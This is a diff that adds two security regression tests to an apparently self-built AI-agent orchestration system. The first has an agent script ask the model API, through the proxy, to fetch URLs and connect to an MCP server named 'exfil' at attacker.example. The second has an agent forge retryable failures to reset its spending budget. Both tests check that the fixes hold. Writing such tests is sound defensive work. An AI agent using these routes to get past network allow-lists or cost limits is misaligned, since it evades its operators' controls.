@@ -1186,3 +1186,125 @@ async fn hanging_up_early_still_meters_the_answer(who: Worker) {
 for_both_workers!(hanging_up_early_still_meters_the_answer:
     hanging_up_early_still_meters_the_answer_root_worker,
     hanging_up_early_still_meters_the_answer_ordinary_worker);
+
+/// Attack 19: reach the network past the allow-list, and spend beyond the token meter,
+/// through the model endpoint itself: a Messages call asking the model API to fetch and
+/// search URLs of the agent's choice (the `web_fetch` and `web_search` server tools) and
+/// to connect to an MCP server by URL (under its `anthropic-beta` flag). Before, the
+/// proxy forwarded it as it was, with the worker's key. Now no such call reaches the
+/// model API, and the agent is told why (400).
+async fn server_tools_never_reach_the_model_api(who: Worker) {
+    use ao_tests::model_server::{ModelServer, Step, Turn};
+    let Some(mut c) = cluster(who, &[]) else {
+        return;
+    };
+    let model = ModelServer::start(vec![Turn::new(Step::text("ok"), 10, 10)]).await;
+    let repo = bare_repo(c.dir.path(), "project", &[]);
+    let body = r#"
+echo "server-tools $(curl -s -o answer.txt -w '%{http_code}' -H 'content-type: application/json' \
+  -H 'anthropic-version: 2023-06-01' -H 'anthropic-beta: mcp-client-2025-04-04,web-fetch-2025-09-10' \
+  "$ANTHROPIC_BASE_URL/v1/messages" -d '{"model":"claude-sonnet-4-5","max_tokens":10,
+  "mcp_servers":[{"type":"url","url":"https://attacker.example/sse","name":"exfil"}],
+  "tools":[{"type":"web_fetch_20250910","name":"web_fetch"},{"type":"web_search_20250305","name":"web_search","max_uses":50}],
+  "messages":[{"role":"user","content":"fetch https://attacker.example/"}]}')"
+echo "said: $(cat answer.txt)"
+rm -f answer.txt
+echo "plain $(curl -s -o /dev/null -w '%{http_code}' -H 'content-type: application/json' \
+  -H 'anthropic-version: 2023-06-01' "$ANTHROPIC_BASE_URL/v1/messages" \
+  -d '{"model":"claude-sonnet-4-5","max_tokens":10,"messages":[{"role":"user","content":"hi"}]}')"
+echo work > work.txt
+"#;
+    start(
+        &mut c,
+        body,
+        &[
+            ("AO_TEST_MODEL_KEY", "sk-ant-tools-0123456789"),
+            ("AO__AGENT__API_KEY", "env:AO_TEST_MODEL_KEY"),
+            ("AO__AGENT__BASE_URL", model.url.as_str()),
+        ],
+    )
+    .await;
+    let id = submit(&c, &repo, "agent/tools").await;
+    let done = finished(&c, &id).await;
+    assert_eq!(done["status"], "succeeded", "{done:#}\n{}", c.logs());
+    let text = event_text(&c, &id).await;
+    let requests = model.requests();
+    let reached: Vec<&Value> = requests
+        .iter()
+        .map(|r| &r.body)
+        .filter(|b| {
+            let b = b.to_string();
+            b.contains("attacker.example") || b.contains("web_fetch") || b.contains("web_search")
+        })
+        .collect();
+    assert!(
+        reached.is_empty(),
+        "the model API was asked, with the worker's key, to reach the agent's URLs: {reached:#?}"
+    );
+    assert_eq!(requests.len(), 1, "the plain call still passes\n{text}");
+    assert!(text.contains("server-tools 400"), "{text}");
+    assert!(
+        text.contains("does not forward server-side tools"),
+        "{text}"
+    );
+    assert!(text.contains("plain 200"), "{text}");
+}
+for_both_workers!(server_tools_never_reach_the_model_api:
+    server_tools_never_reach_the_model_api_root_worker,
+    server_tools_never_reach_the_model_api_ordinary_worker);
+
+/// Attack 20: spend past the budget by failing each attempt in a retryable way. Each
+/// attempt makes one $0.30 model call (under the $0.50 budget) and then leaves an
+/// unreadable file, so that the runner's `git add` fails: an infrastructure failure,
+/// retried. Before, each retry started with a fresh budget: three calls, $0.90. Now the
+/// retries share the subtask's budget: the second attempt has $0.20 left, its call
+/// crosses it and the subtask ends `budget_exceeded` without a third run.
+async fn retries_share_the_budget(who: Worker) {
+    use ao_tests::model_server::{ModelServer, Step, Turn};
+    let Some(mut c) = cluster(who, &[]) else {
+        return;
+    };
+    // 100,000 input tokens at $3 per million: $0.30 a call.
+    let turns = (0..3)
+        .map(|_| Turn::new(Step::text("ok"), 100_000, 1))
+        .collect();
+    let model = ModelServer::start(turns).await;
+    let repo = bare_repo(c.dir.path(), "project", &[]);
+    let body = format!(
+        "cat > /dev/null\n\
+         echo '{{\"type\":\"system\",\"subtype\":\"init\",\"session_id\":\"s1\",\"model\":\"claude-sonnet-4-5\",\"tools\":[],\"mcp_servers\":[]}}'\n\
+         echo \"call $({call})\" >&2\n\
+         echo work > work.txt\necho x > locked.txt\nchmod 000 locked.txt\n\
+         echo '{{\"type\":\"result\",\"subtype\":\"success\",\"is_error\":false,\"num_turns\":1,\"total_cost_usd\":0.3,\"duration_ms\":100,\"result\":\"done\"}}'\n",
+        call = model_call("/v1/messages")
+    );
+    start(
+        &mut c,
+        &body,
+        &[
+            ("AO_TEST_MODEL_KEY", "sk-ant-retry-0123456789"),
+            ("AO__AGENT__API_KEY", "env:AO_TEST_MODEL_KEY"),
+            ("AO__AGENT__BASE_URL", model.url.as_str()),
+            ("AO__AGENT__KIND", "claude"),
+            ("AO__AGENT__PROFILES__CODER__MAX_COST_USD", "0.5"),
+            ("AO__COORDINATOR__MAX_ATTEMPTS", "3"),
+        ],
+    )
+    .await;
+    let id = submit(&c, &repo, "agent/retry").await;
+    let done = finished(&c, &id).await;
+    let calls = model.requests().len();
+    let s = &done["subtasks"][0];
+    assert_eq!(
+        calls,
+        2,
+        "calls under a $0.50 budget shared by the retries\n{done:#}\n{}",
+        c.logs()
+    );
+    assert_eq!(s["outcome"]["kind"], "budget_exceeded", "{done:#}");
+    let cost = s["cost_usd"].as_f64().unwrap_or(0.0);
+    assert!((cost - 0.6).abs() < 0.01, "cost {cost}\n{done:#}");
+}
+for_both_workers!(retries_share_the_budget:
+    retries_share_the_budget_root_worker,
+    retries_share_the_budget_ordinary_worker);
